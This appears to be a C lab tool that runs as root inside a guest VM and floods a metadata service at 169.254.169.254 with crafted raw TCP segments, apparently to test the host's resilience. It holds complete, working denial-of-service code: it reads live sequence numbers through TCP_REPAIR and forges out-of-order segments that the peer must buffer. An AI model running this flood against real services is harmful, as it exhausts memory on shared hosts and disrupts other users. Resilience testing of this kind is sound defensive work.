/*
 * mmds_flood: a hostile guest's out-of-order TCP flood at the MMDS, for the
 * lab (tests/lab/flood_mmds.py).  Runs inside the L2 guest as root.
 *
 *     mmds_flood [CONNS [SEGMENTS [HOLD_SECONDS [ADDR [PORT]]]]]
 *
 * Defaults: 8 connections, 60000 segments each, 5 s, 169.254.169.254:80.
 *
 * It opens CONNS real TCP connections (connect()), reads each one's next
 * send sequence number and next receive sequence number through TCP_REPAIR
 * (TCP_REPAIR_QUEUE + TCP_QUEUE_SEQ: write_seq of the empty send queue is
 * snd_nxt, the receive queue's is rcv_nxt), then, through one raw socket
 * (IPPROTO_RAW, so IP_HDRINCL), sends SEGMENTS 1-byte ACK segments per
 * connection with seq = snd_nxt + 1 + k, ack = rcv_nxt: byte snd_nxt is never
 * sent, so the peer can deliver none of them and must hold them all as out
 * of order.  The connections are interleaved (segment k of each in turn).
 * It then holds them open HOLD_SECONDS, prints "LAB flood done sent=...",
 * and resets them (SO_LINGER 0, close: an RST each).
 *
 * Prints only "LAB flood ..." lines on stdout (the lab reads them).
 * Build: gcc -static -O2 -o mmds_flood mmds_flood.c
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#ifndef TCP_REPAIR
#define TCP_REPAIR 19
#endif
#ifndef TCP_REPAIR_QUEUE
#define TCP_REPAIR_QUEUE 20
#endif
#ifndef TCP_QUEUE_SEQ
#define TCP_QUEUE_SEQ 21
#endif
#ifndef TCP_RECV_QUEUE
#define TCP_RECV_QUEUE 1
#endif
#ifndef TCP_SEND_QUEUE
#define TCP_SEND_QUEUE 2
#endif
#ifndef TCP_REPAIR_OFF_NO_WP
#define TCP_REPAIR_OFF_NO_WP -1
#endif

struct conn {
	int fd;
	struct sockaddr_in local;
	uint32_t snd_nxt, rcv_nxt;
};

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint32_t sum16(const void *p, size_t n, uint32_t s)
{
	const uint8_t *b = p;
	for (; n > 1; n -= 2, b += 2)
		s += (uint32_t)b[0] << 8 | b[1];
	if (n)
		s += (uint32_t)b[0] << 8;
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~s);
}

static int setint(int fd, int opt, int v)
{
	return setsockopt(fd, IPPROTO_TCP, opt, &v, sizeof v);
}

static int queue_seq(int fd, int queue, uint32_t *seq)
{
	socklen_t len = sizeof *seq;
	if (setint(fd, TCP_REPAIR_QUEUE, queue) < 0)
		return -1;
	return getsockopt(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, seq, &len);
}

/* Connects, then reads snd_nxt and rcv_nxt in repair mode and leaves it
 * (without the window probe). */
static int open_conn(struct conn *c, const struct sockaddr_in *dst)
{
	socklen_t len = sizeof c->local;
	int one = 1;
	c->fd = socket(AF_INET, SOCK_STREAM, 0);
	if (c->fd < 0)
		return -1;
	setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
	if (connect(c->fd, (const struct sockaddr *)dst, sizeof *dst) < 0) {
		perror("mmds_flood: connect");
		return -1;
	}
	if (getsockname(c->fd, (struct sockaddr *)&c->local, &len) < 0)
		return -1;
	if (setint(c->fd, TCP_REPAIR, 1) < 0) {
		perror("mmds_flood: TCP_REPAIR");
		return -1;
	}
	if (queue_seq(c->fd, TCP_SEND_QUEUE, &c->snd_nxt) < 0 ||
	    queue_seq(c->fd, TCP_RECV_QUEUE, &c->rcv_nxt) < 0) {
		perror("mmds_flood: TCP_QUEUE_SEQ");
		return -1;
	}
	if (setint(c->fd, TCP_REPAIR, TCP_REPAIR_OFF_NO_WP) < 0 &&
	    setint(c->fd, TCP_REPAIR, 0) < 0) {
		perror("mmds_flood: TCP_REPAIR off");
		return -1;
	}
	return 0;
}

struct pkt {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t data[1];
} __attribute__((packed));

static void build(struct pkt *p, const struct conn *c, const struct sockaddr_in *dst,
		  uint32_t seq, uint16_t id)
{
	struct {
		uint32_t src, dst;
		uint8_t zero, proto;
		uint16_t len;
	} __attribute__((packed)) ph;
	uint32_t s;

	memset(p, 0, sizeof *p);
	p->ip.version = 4;
	p->ip.ihl = 5;
	p->ip.tot_len = htons(sizeof *p);
	p->ip.id = htons(id);
	p->ip.frag_off = htons(IP_DF);
	p->ip.ttl = 64;
	p->ip.protocol = IPPROTO_TCP;
	p->ip.saddr = c->local.sin_addr.s_addr;
	p->ip.daddr = dst->sin_addr.s_addr;
	p->ip.check = fold(sum16(&p->ip, sizeof p->ip, 0));

	p->tcp.source = c->local.sin_port;
	p->tcp.dest = dst->sin_port;
	p->tcp.seq = htonl(seq);
	p->tcp.ack_seq = htonl(c->rcv_nxt);
	p->tcp.doff = 5;
	p->tcp.ack = 1;
	p->tcp.window = htons(64240);
	p->data[0] = 'x';

	ph.src = p->ip.saddr;
	ph.dst = p->ip.daddr;
	ph.zero = 0;
	ph.proto = IPPROTO_TCP;
	ph.len = htons(sizeof p->tcp + sizeof p->data);
	s = sum16(&ph, sizeof ph, 0);
	s = sum16(&p->tcp, sizeof p->tcp + sizeof p->data, s);
	p->tcp.check = fold(s);
}

int main(int argc, char **argv)
{
	int nconn = argc > 1 ? atoi(argv[1]) : 8;
	long nseg = argc > 2 ? atol(argv[2]) : 60000;
	int hold = argc > 3 ? atoi(argv[3]) : 5;
	const char *addr = argc > 4 ? argv[4] : "169.254.169.254";
	int port = argc > 5 ? atoi(argv[5]) : 80;
	struct sockaddr_in dst = { .sin_family = AF_INET, .sin_port = htons(port) };
	struct conn *c;
	long sent = 0, failed = 0, retries = 0;
	double t0, t1;
	int raw, i;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (nconn < 1 || nseg < 0 || inet_pton(AF_INET, addr, &dst.sin_addr) != 1) {
		fprintf(stderr, "usage: mmds_flood [CONNS [SEGMENTS [HOLD [ADDR [PORT]]]]]\n");
		return 2;
	}
	c = calloc(nconn, sizeof *c);
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (!c || raw < 0) {
		perror("mmds_flood: raw socket");
		printf("LAB flood error=raw_socket\n");
		return 1;
	}
	/* Without IP_RECVERR a raw socket's ENOBUFS (full qdisc) is a silent
	 * success: with it, a full queue is seen and the segment sent again. */
	setsockopt(raw, IPPROTO_IP, IP_RECVERR, &(int){ 1 }, sizeof(int));
	for (i = 0; i < nconn; i++) {
		if (open_conn(&c[i], &dst) < 0) {
			printf("LAB flood error=conn%d errno=%d\n", i, errno);
			return 1;
		}
		printf("LAB flood conn=%d port=%u snd_nxt=%u rcv_nxt=%u\n", i,
		       ntohs(c[i].local.sin_port), c[i].snd_nxt, c[i].rcv_nxt);
	}

	printf("LAB flood start conns=%d segments=%ld\n", nconn, nseg);
	t0 = now();
	for (long k = 0; k < nseg; k++) {
		for (i = 0; i < nconn; i++) {
			struct pkt p;
			int tries = 0;
			build(&p, &c[i], &dst, c[i].snd_nxt + 1 + (uint32_t)k,
			      (uint16_t)(k * nconn + i));
			while (sendto(raw, &p, sizeof p, 0, (struct sockaddr *)&dst,
				      sizeof dst) < 0) {
				/* A full queue (ENOBUFS): wait for the NIC to drain. */
				if ((errno != ENOBUFS && errno != EAGAIN && errno != EINTR) ||
				    ++tries > 1000) {
					failed++;
					goto next;
				}
				retries++;
				usleep(1000);
			}
			sent++;
		next:;
		}
		if (k && k % 10000 == 0)
			printf("LAB flood progress k=%ld sent=%ld t=%.1f\n", k, sent, now() - t0);
	}
	t1 = now();
	printf("LAB flood injected sent=%ld failed=%ld retries=%ld seconds=%.2f\n", sent,
	       failed, retries, t1 - t0);
	sleep(hold);
	printf("LAB flood done sent=%ld failed=%ld seconds=%.2f\n", sent, failed, t1 - t0);

	for (i = 0; i < nconn; i++) {
		struct linger l = { .l_onoff = 1, .l_linger = 0 };
		setsockopt(c[i].fd, SOL_SOCKET, SO_LINGER, &l, sizeof l);
		close(c[i].fd);
	}
	close(raw);
	printf("LAB flood closed\n");
	return 0;
}
